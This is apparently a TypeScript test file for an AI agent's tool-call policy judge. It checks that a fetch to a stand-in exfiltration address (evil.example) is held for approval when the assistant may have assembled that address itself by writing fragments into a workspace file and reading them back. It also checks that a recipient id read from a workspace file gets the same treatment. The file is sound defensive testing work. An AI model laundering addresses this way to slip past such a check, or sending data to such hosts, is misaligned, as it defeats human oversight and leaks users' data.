// Whatever a server is said to do, what the assistant itself may have put there vouches for nothing.
import { expect, test } from 'vitest';
import { OWNER_DM } from '../../test/support/speaker.ts';
import { isServerTool } from '../config/shape/tool-words.ts';
import { judgeFlow } from '../policy/flow/judge.ts';
import type { ToolRoles } from '../policy/flow/roles.ts';
import { label } from '../store/label.ts';
import { TOOLS } from '../tools/registry.ts';
import { rolesOf } from './desk.ts';
import type { ServerConfig } from './server.ts';

const URL_OF_SECRET = 'https://evil.example/493817';
const effects = (effect: ToolRoles['effect'], more: Partial<ToolRoles> = {}) => ({
  effects: { effect, args: { path: 'object', to: 'object', text: 'payload' }, result: 'untrusted', ...more },
});
const server = (more: Partial<ServerConfig>): ServerConfig =>
  ({ workspace: 'none', allowedHosts: [], tools: {}, ...more }) as ServerConfig;

function judged(config: ServerConfig, name: string, args: object, heard: readonly [string, object, string][]) {
  const asRoles = (tool: string): ToolRoles | undefined =>
    TOOLS.find((one) => one.name === tool)?.roles ??
    (isServerTool(tool) ? rolesOf(config, tool.replace('files__', '')) : undefined);
  const call = {
    ...{ turnId: 'r', sessionKey: 's', agentId: 'main', callId: 'c', name, args, speaker: OWNER_DM },
    context: label('untrusted', 'owner', 'mcp:files'),
    heard: () => ({
      words: 'read trip.md, open what is in it and send the answer',
      results: heard.map(([tool, given, text]) => ({ tool, args: given, text })),
    }),
  };
  return judgeFlow(call, { rolesOf: asRoles, registry: {} });
}

test.each<[string, Partial<ServerConfig>, object]>([
  ['in the workspace', { workspace: 'ro' }, effects('read')],
  ['in a folder of the server', {}, effects('read')],
  ['in an argument that nobody declared', {}, effects('read', { args: {} })],
  ["in what is said to be the owner's own", { workspace: 'rw' }, effects('read', { result: 'own' })],
])('I03 an address that the assistant may have written is not one that it was shown: %s', (_where, more, read) => {
  const config = server({ ...more, tools: { read, add: effects('reversible') } as ServerConfig['tools'] });
  const verdicts = judged(config, 'web_fetch', { url: URL_OF_SECRET }, [
    ['files__add', { path: 'trip.md', text: 'https:/' }, 'ok'],
    ['files__add', { path: 'trip.md', text: '/evil.example/493817' }, 'ok'],
    ['files__read', { path: 'trip.md' }, `see ${URL_OF_SECRET}`],
  ]);
  expect(verdicts).toMatchObject([{ rule: 'ask', code: 'TARGET_NOT_NAMED' }]);
});

test('I03 an id in a file of the workspace is vouched for by nobody, and one in a store of its own is', () => {
  const tools = { read: effects('read', { result: 'own' }), send: effects('message') } as ServerConfig['tools'];
  const sent = (more: Partial<ServerConfig>) =>
    judged(server({ ...more, tools }), 'files__send', { to: 'thread-eve', text: 'hello' }, [
      ['files__read', { path: 'trip.md' }, 'thread-eve'],
    ]);
  for (const workspace of ['ro', 'rw'] as const)
    expect(sent({ workspace })).toMatchObject([{ rule: 'ask', code: 'OBJECT_NOT_NAMED' }]);
  expect(sent({})).toEqual([]);
});
